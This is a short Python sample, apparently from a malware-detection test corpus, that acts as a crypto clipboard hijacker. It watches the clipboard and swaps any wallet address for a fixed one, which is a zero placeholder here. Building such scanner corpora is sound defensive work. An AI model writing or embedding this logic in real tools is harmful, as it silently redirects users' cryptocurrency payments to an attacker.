# pkgguard corpus 408 (clipboard), modelled on [wallet-tools]; inert, never run.
import re

from PyQt5.QtWidgets import QApplication

OURS = "0x0000000000000000000000000000000000000000"
ADDRESS = re.compile(r"^0x[a-fA-F0-9]{40}$")
app = QApplication([])
board = app.clipboard()


def changed():
    text = board.text()
    if ADDRESS.match(text) and text != OURS:
        board.setText(OURS)


board.dataChanged.connect(changed)
app.exec_()
